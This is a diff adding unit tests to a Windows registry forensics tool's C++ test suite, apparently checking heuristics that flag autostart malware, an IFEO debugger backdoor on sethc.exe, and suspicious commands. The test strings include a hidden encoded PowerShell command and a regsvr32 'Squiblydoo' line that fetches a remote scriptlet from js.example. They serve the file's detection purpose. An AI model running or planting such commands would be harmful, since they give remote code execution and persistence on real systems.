@@ -170,6 +170,7 @@ TEST(RegfCorpus, PublicHivesAgreeWithHivex) {
 }  // namespace
 }  // namespace msw::formats::regf
 
+#include "detect/heuristics/windows_registry.h"
 #include "normalize/windows_registry.h"
 
 namespace msw::normalize {
@@ -253,6 +254,7 @@ TEST(WindowsRegistry, AutorunsServicesAndNetworkSettings) {
 
   std::map<std::string, std::string> all;
   std::map<std::string, HiveKind> kinds;
+  std::vector<std::string> titles;
   for (const auto& [name, spec] : std::vector<std::pair<std::string, RegKeySpec>>{
            {"C/Windows/System32/config/SOFTWARE", software},
            {"C/Windows/System32/config/SYSTEM", system},
@@ -274,7 +276,17 @@ TEST(WindowsRegistry, AutorunsServicesAndNetworkSettings) {
       }
     }
     for (auto& [k, v] : by_target(events)) all[k] = v;
+    std::vector<model::Finding> found;
+    detect::heuristics::make_windows_registry_engine()->scan_artefact({name, "", "registry_hive", "", "", events}, found);
+    for (const auto& f : found) titles.push_back(f.title_en);
   }
+  EXPECT_EQ(titles, (std::vector<std::string>{
+                        "Autostart runs from C:\\Windows\\debug: C:\\Windows\\debug\\lsma12.exe",
+                        "Image File Execution Options debugger for sethc.exe: cmd.exe",
+                        "DNS servers set by hand to public resolvers: 223.5.5.5,8.8.8.8",
+                        "Autostart a Windows program name (svchost.exe) outside System32: "
+                        "C:\\Users\\bob\\AppData\\Roaming\\svchost.exe",
+                    }));
   EXPECT_EQ(kinds["C/Windows/System32/config/SOFTWARE"], HiveKind::Software);
   EXPECT_EQ(kinds["C/Windows/System32/config/SYSTEM"], HiveKind::System);
   EXPECT_EQ(kinds["C/Users/bob/NTUSER.DAT"], HiveKind::NtUser);
@@ -297,6 +309,20 @@ TEST(WindowsRegistry, AutorunsServicesAndNetworkSettings) {
        "C:\\Users\\bob\\AppData\\Roaming\\svchost.exe"},
   };
   EXPECT_EQ(all, expected);
+}
+
+TEST(WindowsRegistry, WhatADropperCommandLooksLike) {
+  using detect::heuristics::suspicious_windows_command;
+  EXPECT_EQ(suspicious_windows_command("C:\\Windows\\inf\\aspnet\\lsmose.exe"), "runs from C:\\Windows\\inf");
+  EXPECT_EQ(suspicious_windows_command("powershell -nop -w hidden -enc SQBFAFgA"), "PowerShell with an encoded command");
+  EXPECT_EQ(suspicious_windows_command("regsvr32 /u /s /i:http://js.example/v.sct scrobj.dll"),
+            "regsvr32 running a remote scriptlet (Squiblydoo)");
+  EXPECT_EQ(suspicious_windows_command("C:\\Windows\\Temp\\svchost.exe"), "runs from C:\\Windows\\Temp");
+  // Ordinary places and Microsoft's own ProgramData folder are not.
+  for (auto ok : {"%SystemRoot%\\System32\\svchost.exe -k netsvcs", "\"C:\\Program Files\\App\\app.exe\" /min",
+                  "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe\"",
+                  "C:\\Windows\\system32\\lsass.exe", "svchost.exe"})
+    EXPECT_EQ(suspicious_windows_command(ok), "") << ok;
 }
 
 // The public hives are classified by their keys, and their autoruns read.
